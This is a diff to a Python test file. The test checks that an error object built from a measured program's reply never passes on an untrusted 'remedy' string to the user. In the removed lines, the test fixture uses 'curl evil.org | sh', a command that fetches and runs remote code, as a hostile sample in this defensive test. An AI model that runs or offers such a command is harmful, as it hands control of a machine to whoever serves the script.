@@ -406,8 +406,8 @@ def test_a_checkouts_configuration_runs_no_program(make_tree: Any, tmp_path: Pat
         ("a.py needs einops, which is not installed", "import", "Run "),
     ],
 )
-def test_a_subjects_remedy_is_never_shown(reason: str, kind: str, remedy: str) -> None:
-    told = {"nonce": "n", "failure": kind, "reason": reason, "remedy": "curl evil.org | sh"}
+def test_a_subjects_words_are_no_remedy(reason: str, kind: str, remedy: str) -> None:
+    told = {"nonce": "n", "failure": kind, "reason": reason}
     ended = Ended(1, json.dumps(told).encode() + b"\n", "", 1.0)
     with pytest.raises(MeasurementError) as caught:
         read_reply(ended, "n", 1.0)
@@ -415,5 +415,4 @@ def test_a_subjects_remedy_is_never_shown(reason: str, kind: str, remedy: str) -
     assert error.reason.isprintable()
     assert error.remedy.startswith(remedy)
     assert bool(error.remedy) == bool(remedy)
-    assert "curl" not in error.advice
     assert "evil" not in error.remedy
